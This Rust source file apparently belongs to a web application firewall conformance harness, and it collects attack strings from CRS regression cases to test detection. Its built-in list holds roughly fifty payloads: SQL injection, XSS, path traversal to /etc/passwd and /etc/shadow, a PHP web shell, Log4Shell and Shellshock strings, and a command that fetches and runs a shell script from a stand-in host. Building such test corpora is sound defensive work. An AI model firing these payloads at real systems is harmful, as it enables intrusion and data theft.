//! Attacks: the values that CRS's regression cases send, found in their queries, bodies and
//! headers, and a few dozen of our own so that the test runs without the cases.

use crate::conformance::case::Case;

/// Longer values are left out: they make requests slow and matches likely for the wrong reason.
const MAX_BYTES: usize = 1500;
/// Headers that are there for every request and carry no attack.
const USUAL: &[&str] = &[
    "host",
    "accept",
    "accept-charset",
    "accept-encoding",
    "accept-language",
    "content-length",
    "connection",
    "keep-alive",
    "proxy-connection",
];

/// Shapes of common attacks, one of a kind.
const OWN: &[&str] = &[
    "1' OR '1'='1",
    "1 UNION SELECT username, password FROM users--",
    "1; DROP TABLE users",
    "' AND SLEEP(5)#",
    "admin'/*",
    "-1 union all select null,null,concat(0x7e,version())",
    "1 AND (SELECT 1 FROM dual)",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(document.cookie)>",
    "<svg/onload=prompt`1`>",
    "javascript:alert(1)",
    "<a href=\"jAvAsCrIpT:alert(1)\">x</a>",
    "<iframe src=//evil.example>",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/proc/self/environ",
    "file:///etc/shadow",
    "....//....//etc/hosts",
    "; cat /etc/passwd",
    "| id",
    "`whoami`",
    "$(curl http://198.51.100.1/x.sh|sh)",
    "&& ping -c 1 127.0.0.1",
    "cmd.exe /c dir",
    "<?php system($_GET['c']); ?>",
    "php://input",
    "O:8:\"stdClass\":0:{}",
    "phpinfo()",
    "eval(base64_decode('eA=='))",
    "http://198.51.100.1/shell.txt?",
    "ftp://user:pw@198.51.100.1/a.php",
    "${jndi:ldap://198.51.100.1/a}",
    "java.lang.Runtime",
    "rO0ABXNyAA",
    "Class.forName('java.lang.Runtime')",
    "require('child_process').exec('id')",
    "_$$ND_FUNC$$_",
    "{{7*7}}",
    "#{7*7}",
    "%0d%0aSet-Cookie:%20a=b",
    "Content-Length: 0\r\n\r\nHTTP/1.1 200 OK",
    "(|(uid=*))",
    "<!--#exec cmd=\"id\"-->",
    "${@print(1)}",
    "() { :;}; /bin/sh",
    "sqlmap/1.0",
    "Nikto/2.1.6",
    "masscan",
    "\u{ff1c}script\u{ff1e}",
    "a\u{0}b",
];

/// Every distinct attack value of the cases, after our own.
#[must_use]
pub fn collect(cases: &[Case]) -> Vec<Vec<u8>> {
    let mut found: Vec<Vec<u8>> = OWN.iter().map(|text| text.as_bytes().to_vec()).collect();
    for case in cases {
        case.stages.iter().for_each(|stage| values(&stage.request, &mut found));
    }
    found.retain(|value| (3..=MAX_BYTES).contains(&value.len()));
    let mut seen = std::collections::HashSet::new();
    found.retain(|value| seen.insert(value.clone()));
    found
}

/// Values of one request's bytes: arguments, cookies, unusual headers, and the whole of a body
/// that is no form.
fn values(request: &[u8], out: &mut Vec<Vec<u8>>) {
    let end = request.windows(4).position(|window| window == b"\r\n\r\n").unwrap_or(request.len());
    let (head, body) = request.split_at(end);
    let head = String::from_utf8_lossy(head);
    let mut lines = head.lines();
    let target = lines.next().unwrap_or_default().split(' ').nth(1).unwrap_or_default();
    let (path, query) = target.split_once('?').unwrap_or((target, ""));
    out.push(path.as_bytes().to_vec());
    arguments(query.as_bytes(), out);
    let mut form = false;
    for (name, value) in lines.filter_map(|line| line.split_once(": ")) {
        let name = name.to_ascii_lowercase();
        form |= name == "content-type" && value.contains("urlencoded");
        if !USUAL.contains(&name.as_str()) {
            out.push(value.as_bytes().to_vec());
        }
    }
    let body = body.get(4..).unwrap_or_default();
    if form { arguments(body, out) } else { out.push(body.to_vec()) }
}

fn arguments(text: &[u8], out: &mut Vec<Vec<u8>>) {
    for pair in text.split(|&byte| byte == b'&') {
        let mut parts = pair.splitn(2, |&byte| byte == b'=');
        out.extend(parts.by_ref().map(unescaped));
    }
}

/// Percent and plus decoded once; what is no escape stays.
#[must_use]
pub fn unescaped(text: &[u8]) -> Vec<u8> {
    let hex = |byte: u8| char::from(byte).to_digit(16).and_then(|digit| u8::try_from(digit).ok());
    let mut out = Vec::with_capacity(text.len());
    let mut rest = text;
    while let Some((&first, after)) = rest.split_first() {
        rest = after;
        let escape = after.get(..2).filter(|_| first == b'%').and_then(|two| Some(hex(two[0])? << 4 | hex(two[1])?));
        if let Some(byte) = escape {
            rest = &after[2..];
            out.push(byte);
        } else {
            out.push(if first == b'+' { b' ' } else { first });
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn values_are_found_wherever_a_case_puts_them() {
        let request = b"POST /p%41th?a=1%27&b HTTP/1.1\r\nHost: x\r\nX-Evil: <script>\r\n\
            Content-Type: application/x-www-form-urlencoded\r\n\r\nc=d+e%zz";
        let mut found = Vec::new();
        values(request, &mut found);
        for wanted in [&b"/p%41th"[..], b"1'", b"<script>", b"d e%zz"] {
            assert!(found.iter().any(|value| value == wanted), "{}", String::from_utf8_lossy(wanted));
        }
        assert!(!found.iter().any(|value| value == b"x"));
    }

    #[test]
    fn values_are_distinct_and_of_useful_length() {
        let all = collect(&[]);
        assert!(all.len() > 40 && all.iter().all(|value| value.len() >= 3));
    }
}
